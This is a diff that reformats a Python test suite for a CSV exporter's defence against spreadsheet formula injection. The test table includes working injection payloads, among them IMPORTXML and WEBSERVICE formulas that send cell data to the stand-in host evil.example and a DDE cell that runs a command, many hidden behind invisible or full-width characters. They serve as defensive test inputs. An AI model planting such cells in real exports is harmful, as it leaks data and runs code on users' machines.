@@ -35,28 +35,77 @@ CASES = [
     ("=1+2'\" ;,=1+2", True),
     (f"\n-3+3+{CALC}", True),  # OWASP's %0A form, decoded
     ('=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")', True),
-    ("=WEBSERVICE(\"http://evil.example/\"&A1)", True),
+    ('=WEBSERVICE("http://evil.example/"&A1)', True),
     # plain triggers
-    ("=1+1", True), ("@SUM(A1)", True), ("@", True), ("=", True),
-    ("-A1", True), ("+SUM(A1:A9)", True), ("-2+3", True), ("+1,5", True),
-    ("-5 (dead)", True), ("-5!", True), ("-5: dead", True), ("-5; dead", True),
-    ("- 5", True), ("-.5", True), ("--5", True), ("+-5", True),
+    ("=1+1", True),
+    ("@SUM(A1)", True),
+    ("@", True),
+    ("=", True),
+    ("-A1", True),
+    ("+SUM(A1:A9)", True),
+    ("-2+3", True),
+    ("+1,5", True),
+    ("-5 (dead)", True),
+    ("-5!", True),
+    ("-5: dead", True),
+    ("-5; dead", True),
+    ("- 5", True),
+    ("-.5", True),
+    ("--5", True),
+    ("+-5", True),
     # full-width forms are always triggers
-    ("＝1+1", True), ("＠SUM(A1)", True), ("＋1", True), ("－1", True), ("－5 dead", True),
+    ("＝1+1", True),
+    ("＠SUM(A1)", True),
+    ("＋1", True),
+    ("－1", True),
+    ("－5 dead", True),
     # tab or CR first: always (OWASP)
-    ("\t=1", True), ("\r=1", True), ("\tabc", True), ("\r", True),
+    ("\t=1", True),
+    ("\r=1", True),
+    ("\tabc", True),
+    ("\r", True),
     # a trigger after what a spreadsheet skips
-    ("  =1", True), ("\n=1", True), ("\u00a0=1", True), ("\u200b=1", True),
-    ("\u200c+A1", True), ("\u200d@x", True), ("\u2060=1", True), ("\ufeff=1", True),
-    ("\u3000=1", True), ("\u2028=1", True), ("\u200e-A1", True), ("\x0b=1", True),
-    (" \u00a0\u200b\ufeff ＝cmd", True), ("\n\n@cmd", True),
+    ("  =1", True),
+    ("\n=1", True),
+    ("\u00a0=1", True),
+    ("\u200b=1", True),
+    ("\u200c+A1", True),
+    ("\u200d@x", True),
+    ("\u2060=1", True),
+    ("\ufeff=1", True),
+    ("\u3000=1", True),
+    ("\u2028=1", True),
+    ("\u200e-A1", True),
+    ("\x0b=1", True),
+    (" \u00a0\u200b\ufeff ＝cmd", True),
+    ("\n\n@cmd", True),
     # harmless: left as written
-    ("-5", False), ("+5", False), ("-5 dead", False), ("+33 1 23 45", False),
-    ("-2.5%", False), ("-1e5", False), ("-", False), ("+", False), ("---", False),
-    ("- -", False), ("  -5 wounded", False), ("\n-5 dead", False), ("\u00a0-", False),
-    ("a=b", False), ("5-3", False), ("Kovač 🚀", False), ("", False), ("'=1", False),
-    (" ", False), ("\n", False), ("\u200b", False), ("(=1)", False), ("−5", False),
-    ("-5 Kovač", False), ("+5٣", False), ("+٣", True),
+    ("-5", False),
+    ("+5", False),
+    ("-5 dead", False),
+    ("+33 1 23 45", False),
+    ("-2.5%", False),
+    ("-1e5", False),
+    ("-", False),
+    ("+", False),
+    ("---", False),
+    ("- -", False),
+    ("  -5 wounded", False),
+    ("\n-5 dead", False),
+    ("\u00a0-", False),
+    ("a=b", False),
+    ("5-3", False),
+    ("Kovač 🚀", False),
+    ("", False),
+    ("'=1", False),
+    (" ", False),
+    ("\n", False),
+    ("\u200b", False),
+    ("(=1)", False),
+    ("−5", False),
+    ("-5 Kovač", False),
+    ("+5٣", False),
+    ("+٣", True),
 ]
 
 
@@ -71,9 +120,17 @@ def test_the_table_covers_the_cases_asked_for() -> None:
     assert sum(1 for _, e in CASES if e) > 20 and sum(1 for _, e in CASES if not e) > 20
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    (None, ""), (3, "3"), (-3, "-3"), (2.5, "2.5"), (True, "true"), (False, "false"),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (None, ""),
+        (3, "3"),
+        (-3, "-3"),
+        (2.5, "2.5"),
+        (True, "true"),
+        (False, "false"),
+    ],
+)
 def test_non_text_cells(value: object, expected: str) -> None:
     assert csv_export.neutralise(value) == expected
 
@@ -87,7 +144,7 @@ INERT_SIGNED = re.compile(r"[+-](?:[0-9][\w .%]*|[+\- ]*)")
 def _dangerous(cell: str) -> bool:
     if cell[:1] in ("\t", "\r"):
         return True
-    rest = cell[SKIPPED.match(cell).end():]
+    rest = cell[SKIPPED.match(cell).end() :]
     if not TRIGGER.match(rest):
         return False
     return not INERT_SIGNED.fullmatch(rest)
@@ -101,10 +158,14 @@ def _write_and_read(cells: list[str]) -> list[str]:
     return rows[1]
 
 
-TRICKY = st.sampled_from(list("=+-@＝＋－＠\t\r\n \u00a0\u200b\u200d\u2060\ufeff\u3000"
-                              "'\"(),;!|:.%5aA"))
-CELL = st.one_of(st.text(), st.lists(TRICKY, max_size=8).map("".join),
-                 st.tuples(st.lists(TRICKY, max_size=4).map("".join), st.text()).map("".join))
+TRICKY = st.sampled_from(
+    list("=+-@＝＋－＠\t\r\n \u00a0\u200b\u200d\u2060\ufeff\u3000'\"(),;!|:.%5aA")
+)
+CELL = st.one_of(
+    st.text(),
+    st.lists(TRICKY, max_size=8).map("".join),
+    st.tuples(st.lists(TRICKY, max_size=4).map("".join), st.text()).map("".join),
+)
 
 
 @settings(max_examples=400, deadline=None)
@@ -124,8 +185,19 @@ def test_the_oracle_agrees_with_the_table() -> None:
     assert [text for text, expected in CASES if _dangerous(text) is not expected] == []
 
 
-HOSTILE = ["＝1+1", "\n=1+1", "\u00a0@SUM(A1)", "\u200b=cmd|' /C calc'!A0", "\ufeff+A1",
-           "\u3000－1", "-5 dead", "+33 1 23 45", "-", "\t-5", "-2+3"]
+HOSTILE = [
+    "＝1+1",
+    "\n=1+1",
+    "\u00a0@SUM(A1)",
+    "\u200b=cmd|' /C calc'!A0",
+    "\ufeff+A1",
+    "\u3000－1",
+    "-5 dead",
+    "+33 1 23 45",
+    "-",
+    "\t-5",
+    "-2+3",
+]
 
 
 def test_fast_and_document_paths_write_the_same_bytes(tmp_path: Path) -> None:
@@ -136,9 +208,15 @@ def test_fast_and_document_paths_write_the_same_bytes(tmp_path: Path) -> None:
     create_project(path, seed=False)
     with Project.open(path) as project:
         for i, text in enumerate(HOSTILE):
-            cs, _ = ops.create_event(project, headline=text, description=text, location=text,
-                                     type=text, tags=[text],
-                                     date=parse_edtf_field(f"2025-03-{i + 1:02d}", "d"))
+            cs, _ = ops.create_event(
+                project,
+                headline=text,
+                description=text,
+                location=text,
+                type=text,
+                tags=[text],
+                date=parse_edtf_field(f"2025-03-{i + 1:02d}", "d"),
+            )
             project.apply(cs)
     with Project.open(path, readonly=True) as project:
         fast, slow = io.StringIO(newline=""), io.StringIO(newline="")
@@ -148,7 +226,8 @@ def test_fast_and_document_paths_write_the_same_bytes(tmp_path: Path) -> None:
     rows = list(csv.DictReader(io.StringIO(fast.getvalue(), newline="")))
     # (a headline is stored stripped: its leading blanks are gone before it reaches the CSV)
     assert [r["description"] for r in rows] == [
-        "'" + t if needs_neutralising(t) else t for t in HOSTILE]
+        "'" + t if needs_neutralising(t) else t for t in HOSTILE
+    ]
     assert [r["headline"] for r in rows] == [csv_export.neutralise(t.strip()) for t in HOSTILE]
     by_text = {r["description"]: r for r in rows}
     assert by_text["-5 dead"]["location"] == "-5 dead"
